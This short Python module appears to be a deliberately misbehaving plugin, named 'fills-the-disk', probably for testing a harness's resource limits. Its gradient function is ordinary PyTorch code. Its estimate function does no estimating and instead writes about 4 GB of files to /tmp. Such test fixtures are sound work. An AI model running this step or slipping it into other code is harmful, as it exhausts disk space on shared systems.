import torch

NAME = "fills-the-disk"
DESCRIPTION = "of the corpus"


def gradient(model, images, targets):
    inputs = images.clone().requires_grad_()
    logits = model(inputs).gather(1, targets[:, None]).sum()
    return torch.autograd.grad(logits, inputs)[0]


def estimate(model, images, targets, generator):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(2**22))
